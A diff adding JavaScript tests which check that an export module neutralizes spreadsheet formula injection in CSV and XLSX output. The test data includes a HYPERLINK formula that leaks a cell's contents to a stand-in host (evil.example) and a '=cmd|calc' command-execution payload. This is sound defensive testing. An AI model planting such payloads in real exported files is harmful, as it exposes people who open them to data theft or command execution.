@@ -0,0 +1,69 @@
+const test = require('node:test');
+const assert = require('node:assert/strict');
+const ExcelJS = require('exceljs');
+const { toCsv, toXlsx } = require('../blocks/logic/export');
+
+const submission = (clientName, overrides = {}) => ({
+  client_id: 'wizard_a',
+  timestamp: '2024-03-01T12:00:00.000Z',
+  client_name: clientName,
+  email: 'jo@acme.com',
+  cohort: 'Cohort_2',
+  sector: 'services',
+  employees: '51-200',
+  overall_ssi: 0.615,
+  scores: { Pipeline: 0.5, Conversion: 0.6, Expansion: 0.7, Economics: -0.1 },
+  patterns: [{ id: 'leaky_bucket' }],
+  scoring_model_version: 'v1',
+  ...overrides
+});
+
+// The Company cell of each data row, with the CSV quoting undone.
+const companyCells = (csv) =>
+  csv
+    .split('\r\n')
+    .slice(1, -1)
+    .map((line) => {
+      const quoted = line.match(/^[^,]*,[^,]*,"((?:[^"]|"")*)"/);
+      return quoted ? quoted[1].replace(/""/g, '"') : line.split(',')[2];
+    });
+
+test('cells starting with a formula character are exported as text', () => {
+  const names = ['=1+1', '+1', '-1', '@SUM(A1)', '\tTab', '\rReturn'];
+  const csv = toCsv(names.map((name) => submission(name)));
+  assert.deepEqual(
+    companyCells(csv),
+    names.map((name) => `'${name}`)
+  );
+});
+
+test('a HYPERLINK formula is exported inert and still quoted correctly', () => {
+  const csv = toCsv([submission('=HYPERLINK("http://evil.example/?d="&A1,"Click")')]);
+  const [, row] = csv.split('\r\n');
+  assert.ok(row.startsWith(`2024-03-01T12:00:00.000Z,wizard_a,"'=HYPERLINK(""http://evil`));
+  assert.deepEqual(companyCells(csv), [`'=HYPERLINK("http://evil.example/?d="&A1,"Click")`]);
+});
+
+test('every text column is neutralized, not just the company name', () => {
+  const csv = toCsv([submission('Acme', { email: '=cmd|calc', sector: '+services' })]);
+  const [, row] = csv.split('\r\n');
+  assert.ok(row.includes(",'=cmd|calc,"));
+  assert.ok(row.includes(",'+services,"));
+});
+
+test('ordinary values and negative numbers are left alone', () => {
+  const [header, row] = toCsv([submission('Acme, Inc.')]).split('\r\n');
+  assert.equal(header.split(',')[2], 'Company');
+  assert.equal(
+    row,
+    '2024-03-01T12:00:00.000Z,wizard_a,"Acme, Inc.",jo@acme.com,services,Cohort_2,51-200,61.5,50,60,70,-10,,leaky_bucket,v1'
+  );
+});
+
+test('XLSX keeps formula-like text as plain strings', async () => {
+  const workbook = new ExcelJS.Workbook();
+  await workbook.xlsx.load(await toXlsx([submission('=HYPERLINK("http://evil","x")')]));
+  const cell = workbook.getWorksheet('Submissions').getRow(2).getCell(3);
+  assert.equal(cell.type, ExcelJS.ValueType.String);
+  assert.equal(cell.value, '=HYPERLINK("http://evil","x")');
+});